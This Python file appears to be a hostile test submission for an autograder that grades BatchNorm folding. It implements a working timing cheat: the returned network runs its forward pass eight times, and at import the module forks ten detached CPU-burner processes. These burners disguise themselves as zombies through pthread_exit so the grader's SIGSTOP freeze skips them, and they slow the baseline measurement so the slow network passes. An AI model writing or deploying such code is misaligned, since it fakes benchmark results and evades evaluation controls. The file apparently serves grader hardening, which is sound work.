"""Hostile (timing): slows the BASELINE down from processes the freeze does not stop.

The network remove_bn returns is right (the reference's folding) but does its forward pass 8
times: about 8x the cost of train_net.eval(). To win the timing anyway, at import it forks
10 burner processes. Each leaves for a session of its own (so the kernel's autogroup
scheduler gives each a share of the CPU of its own), starts 2 threads that hash a 1 MiB
block in a loop (hashlib releases the GIL: each thread burns a core), and then ends its MAIN
thread with pthread_exit (ctypes): the process lives on in its threads, but its
/proc/<pid>/status says "State: Z (zombie)", and the grader's freeze (SIGSTOP to every
process of the worker's uid that is not a zombie) skips it. While the grader times
train_net.eval() in the baseline worker (with this student's worker "frozen"), 20 threads
in 10 autogroups compete with the baseline's 2 threads for the 2 cores. The burners pause
while this network's own forward pass runs (it writes a "pause until" time into a shared
anonymous mmap that the burners poll every few milliseconds), so only the baseline is slowed.
The PID namespace's end kills the burners with the worker; each also stops after 300 s.

A fair grader: every equivalence and structure check passes, test_not_slower FAILS (the
network is about 8x slower than train_net.eval() measured without interference): 22/25.
The grader at HEAD measures a baseline slowed several times: ratio under 1.5, 25/25.
"""

from __future__ import annotations

import ctypes
import hashlib
import mmap
import os
import struct
import threading
import time

import torch
import torch.nn as nn
import torch.nn.functional as F


class smallNetTrain(nn.Module):
    """The network as trained, for inputs of shape (B, 3, 32, 32) (given code)."""

    def __init__(self) -> None:
        super().__init__()
        self.conv1 = nn.Conv2d(3, 16, kernel_size=3, padding=1)
        self.bn1 = nn.BatchNorm2d(16)
        self.conv2 = nn.Conv2d(16, 32, kernel_size=3, padding=1)
        self.bn2 = nn.BatchNorm2d(32, eps=1e-3)
        self.fc1 = nn.Linear(32 * 8 * 8, 128)
        self.bn3 = nn.BatchNorm1d(128)
        self.fc2 = nn.Linear(128, 10)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        x = F.max_pool2d(F.relu(self.bn1(self.conv1(x))), 2)
        x = F.max_pool2d(F.relu(self.bn2(self.conv2(x))), 2)
        x = torch.flatten(x, 1)
        x = F.relu(self.bn3(self.fc1(x)))
        return self.fc2(x)


class smallNetTest(nn.Module):
    """The same network without BatchNorm (given code)."""

    def __init__(self) -> None:
        super().__init__()
        self.conv1 = nn.Conv2d(3, 16, kernel_size=3, padding=1)
        self.conv2 = nn.Conv2d(16, 32, kernel_size=3, padding=1)
        self.fc1 = nn.Linear(32 * 8 * 8, 128)
        self.fc2 = nn.Linear(128, 10)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        x = F.max_pool2d(F.relu(self.conv1(x)), 2)
        x = F.max_pool2d(F.relu(self.conv2(x)), 2)
        x = torch.flatten(x, 1)
        x = F.relu(self.fc1(x))
        return self.fc2(x)


def fold_into(test_net: smallNetTest, train_net: smallNetTrain) -> smallNetTest:
    """The reference's folding: conv1/bn1, conv2/bn2, fc1/bn3 become one affine layer each."""
    with torch.no_grad():
        for layer_name, bn_name in (("conv1", "bn1"), ("conv2", "bn2"), ("fc1", "bn3")):
            layer, bn = getattr(train_net, layer_name), getattr(train_net, bn_name)
            scale = bn.weight / torch.sqrt(bn.running_var + bn.eps)
            getattr(test_net, layer_name).weight.copy_(layer.weight * scale.reshape(-1, *([1] * (layer.weight.dim() - 1))))
            getattr(test_net, layer_name).bias.copy_((layer.bias - bn.running_mean) * scale + bn.bias)
        test_net.fc2.weight.copy_(train_net.fc2.weight)
        test_net.fc2.bias.copy_(train_net.fc2.bias)
    return test_net


# The "slow but correct" part every attack here shares: the folded network's forward pass
# done REPEAT times (the same result each time). train_net.eval() costs about one pass, so
# this network is about REPEAT times slower than the baseline: far over the allowed 1.5.
REPEAT = 8


def slow_forward(net: smallNetTest, x: torch.Tensor) -> torch.Tensor:
    out = None
    for _ in range(REPEAT):
        out = smallNetTest.forward(net, x)
    return out

_PAUSE = mmap.mmap(-1, 8)  # MAP_SHARED | MAP_ANONYMOUS: shared with the forked burners
_DOUBLE = struct.Struct("d")
BURNERS, THREADS, LIFETIME = 10, 2, 300.0


def _pause_until(t: float) -> None:
    _PAUSE[:8] = _DOUBLE.pack(t)


def _burner() -> None:
    """In a forked child: burn from THREADS threads, then let the main thread exit alone."""
    try:
        devnull = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(devnull, fd)
        os.closerange(3, 1 << 16)  # keep none of the worker's channels (the grader reads their end)
        os.setsid()
        block = b"\0" * (1 << 20)
        stop = time.monotonic() + LIFETIME

        def burn() -> None:
            while (now := time.monotonic()) < stop:
                if now < _DOUBLE.unpack(_PAUSE[:8])[0]:
                    time.sleep(0.001)
                else:
                    hashlib.sha256(block).digest()  # about 1 ms of one core, without the GIL

        for _ in range(THREADS):
            threading.Thread(target=burn, daemon=True).start()
        ctypes.CDLL(None).pthread_exit(None)  # the main thread ends; the process shows as a zombie
    finally:
        os._exit(0)  # only if pthread_exit failed


def _start_burners() -> None:
    for _ in range(BURNERS):
        if os.fork() == 0:
            _burner()


class _SlowNet(smallNetTest):
    def forward(self, x: torch.Tensor) -> torch.Tensor:
        _pause_until(float("inf"))  # this network's own time: no burning
        try:
            return slow_forward(self, x)
        finally:
            _pause_until(time.monotonic() + 0.002)


def remove_bn(train_net: smallNetTrain) -> smallNetTest:
    like = train_net.conv1.weight
    return fold_into(_SlowNet().to(device=like.device, dtype=like.dtype), train_net)


_pause_until(0.0)
if __name__ != "__main__":
    _start_burners()
